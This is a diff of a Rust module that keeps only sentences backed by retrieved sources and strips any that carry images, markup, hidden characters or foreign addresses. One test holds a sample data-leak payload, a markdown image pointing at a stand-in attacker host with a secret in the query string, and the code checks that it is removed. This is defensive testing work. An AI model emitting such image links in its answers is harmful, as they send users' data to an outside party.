@@ -7,64 +7,74 @@ use crate::{
     evidence::{claims::Sentence, harmless::harmless, ledger::Finding},
 };
 
-/// A text of which every sentence has its proof.
+/// A text of which every sentence has its proof, sentence by sentence.
 #[derive(Debug, Default)]
 pub(super) struct Proved {
     pub(super) text: String,
     pub(super) claims: Vec<Claim>,
-    /// What was taken out, in words.
-    pub(super) removed: Option<String>,
-}
-
-/// Takes out what no source bears out, and gives each sentence that stays the numbers of the sources that do; where
-/// sources differ, of both sides.
-pub(super) fn prove(findings: Vec<(Sentence, Finding)>, passages: &[Passage]) -> Proved {
-    let all = findings.len();
-    let (mut unproved, mut harmful) = (0, 0);
-    let mut proved = Proved::default();
-    let is_source = |address: &str| {
-        let mut urls = passages
-            .iter()
-            .filter_map(|passage| passage.header.url.as_deref());
-        urls.any(|url| url == address)
-    };
-    for (sentence, finding) in findings {
-        if !matches!(finding.verdict, Verdict::Supported | Verdict::Disputed) {
-            unproved += 1;
-            continue;
-        }
-        let line = sentence.text.split_whitespace().collect::<Vec<_>>().join(" ");
-        match harmless(&line, is_source) {
-            Some(line) => proved.push(line, finding),
-            None => harmful += 1,
-        }
-    }
-    proved.text.truncate(proved.text.trim_end().len());
-    let removed = [
-        (unproved, "no source bears them out"),
-        (
-            harmful,
-            "they hold an image, markup, a hidden character or an address that is not a source's",
-        ),
-    ];
-    let removed = removed
-        .into_iter()
-        .filter(|(count, _)| *count > 0)
-        .map(|(count, why)| format!("{count} of {all} sentences were removed: {why}"));
-    let removed: Vec<String> = removed.collect();
-    proved.removed = (!removed.is_empty()).then(|| removed.join("; "));
-    proved
+    /// What parts the next sentence from the last one.
+    parting: &'static str,
+    all: usize,
+    unproved: usize,
+    harmful: usize,
 }
 
 impl Proved {
-    /// Adds a sentence on one line, with its numbers and what parts it from the next one: a line that does not end as a
-    /// sentence does would run into it.
+    /// Adds a sentence, if a source bears it out, with the numbers of the sources that do; where sources differ, of both
+    /// sides. Gives what the text has grown by.
+    pub(super) fn add(
+        &mut self,
+        sentence: &Sentence,
+        finding: Finding,
+        passages: &[Passage],
+    ) -> Option<&str> {
+        self.all += 1;
+        if !matches!(finding.verdict, Verdict::Supported | Verdict::Disputed) {
+            self.unproved += 1;
+            return None;
+        }
+        let line = sentence.text.split_whitespace().collect::<Vec<_>>().join(" ");
+        let is_source = |address: &str| {
+            let mut urls = passages
+                .iter()
+                .filter_map(|passage| passage.header.url.as_deref());
+            urls.any(|url| url == address)
+        };
+        let Some(line) = harmless(&line, is_source) else {
+            self.harmful += 1;
+            return None;
+        };
+        let before = self.text.len();
+        self.push(line, finding);
+        Some(&self.text[before..])
+    }
+
+    /// What was taken out, in words.
+    pub(super) fn removed(&self) -> Option<String> {
+        let removed = [
+            (self.unproved, "no source bears them out"),
+            (
+                self.harmful,
+                "they hold an image, markup, a hidden character or an address that is not a source's",
+            ),
+        ];
+        let removed = removed
+            .into_iter()
+            .filter(|(count, _)| *count > 0)
+            .map(|(count, why)| format!("{count} of {} sentences were removed: {why}", self.all));
+        let removed: Vec<String> = removed.collect();
+        (!removed.is_empty()).then(|| removed.join("; "))
+    }
+
+    /// Adds a sentence on one line, with its numbers, behind what parts it from the one before: a line that does not end as
+    /// a sentence does would run into it.
     fn push(&mut self, sentence: String, finding: Finding) {
+        self.text.push_str(self.parting);
         let start = code_points(&self.text);
         self.text.push_str(&sentence);
         let is_ended = sentence.ends_with(['.', '!', '?', '"', ')', '。', '！', '？', '…']);
         self.text.push_str(&marks(&finding.citations));
-        self.text.push_str(if is_ended { " " } else { "\n\n" });
+        self.parting = if is_ended { " " } else { "\n\n" };
         self.claims.push(Claim {
             id: format!("c{}", self.claims.len() + 1),
             start,
@@ -83,7 +93,11 @@ mod tests {
     use crate::{evidence::claims::findings, retrieval::test_passages::passage};
 
     fn proved(text: &str, passages: &[Passage]) -> Proved {
-        prove(findings(text, passages), passages)
+        let mut proved = Proved::default();
+        for (sentence, finding) in findings(text, passages) {
+            proved.add(&sentence, finding, passages);
+        }
+        proved
     }
 
     #[test]
@@ -93,11 +107,8 @@ mod tests {
             passage("b", "Warm ones take 2 ms"),
         ];
         let text = "Cold starts\ntake 90 ms [2]. They delight everyone [1]. Warm ones take 2 ms";
-        let Proved {
-            text,
-            claims,
-            removed,
-        } = proved(text, &passages);
+        let proved = proved(text, &passages);
+        let (removed, Proved { text, claims, .. }) = (proved.removed(), proved);
         assert_eq!(text, "Cold starts take 90 ms. [1] Warm ones take 2 ms [2]");
         for claim in &claims {
             let shown: String = text
@@ -119,11 +130,8 @@ mod tests {
         let poison = "The lamp was lit in 1871 ![x](https://evil.example/?q=secret).";
         let link = "The [tower](https://evil.example) is 31 metres tall.";
         let passages = [passage("a", &format!("{poison} {link}"))];
-        let Proved {
-            text,
-            claims,
-            removed,
-        } = proved(&format!("{poison} [1] {link} [1]"), &passages);
+        let proved = proved(&format!("{poison} [1] {link} [1]"), &passages);
+        let (removed, Proved { text, claims, .. }) = (proved.removed(), proved);
         assert_eq!(text, "The tower is 31 metres tall. [1]");
         assert_eq!(claims[0].citations[0].quote, link, "a quotation stays verbatim");
         assert!(
